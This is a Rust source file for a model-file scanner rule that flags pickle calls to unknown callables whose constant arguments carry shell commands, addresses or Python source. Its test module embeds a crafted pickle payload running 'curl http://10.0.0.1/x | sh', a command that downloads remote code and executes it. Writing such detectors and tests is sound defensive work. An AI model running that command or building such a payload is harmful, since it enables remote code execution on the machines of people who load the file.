//! `suspicious-argument`: a call to a callable outside the knowledge base whose constant
//! arguments hold a shell command, a URL or address, or Python source.

use super::{arguments, call_text, rule_meta, target_path, StreamContext};
use crate::kb::Class;
use crate::model::{Confidence, Finding, Severity};

rule_meta!(
    "suspicious-argument",
    "Shell command, address or code passed to an unknown callable",
    High,
    "A callable the knowledge base does not know is called with a shell command, a network address or Python source as a constant argument."
);

pub fn check(cx: &StreamContext<'_, '_, '_>, out: &mut Vec<Finding>) {
    for kept in &cx.facts.calls {
        if !matches!(kept.class, Class::Unknown) {
            continue;
        }
        let args = kept.call.effective_args.as_ref().unwrap_or(&kept.call.args);
        let Some(signal) = arguments::strongest(args) else {
            continue;
        };
        let call = call_text(kept);
        let mut finding = cx.finding(
            &META,
            Severity::High,
            Confidence::Medium,
            format!("loading this file calls {call}, passing {}", signal.describe()),
            Some(kept.call.offset),
            Some(kept.call.opcode.name()),
        );
        finding.call = Some(call);
        finding.target = Some(target_path(kept));
        finding.explanation = Some("Model files carry tensors and configuration. A constant shell command, network address or Python source handed to a callable at load time is how payloads travel through functions no blocklist names.".into());
        out.push(finding);
    }
}

#[cfg(test)]
mod tests {
    use crate::analyze::testing::findings_of;

    #[test]
    fn shell_command_to_unknown_callable() {
        let f = findings_of(b"cmytools\nrun_it\n(S'curl http://10.0.0.1/x | sh'\ntR.");
        assert!(f.iter().any(|f| f.rule == "suspicious-argument"), "{f:#?}");
    }

    #[test]
    fn plain_words_are_not_suspicious() {
        let f = findings_of(b"cmytools\nLabel\n(S'cat'\ntR.");
        assert!(!f.iter().any(|f| f.rule == "suspicious-argument"), "{f:#?}");
    }
}
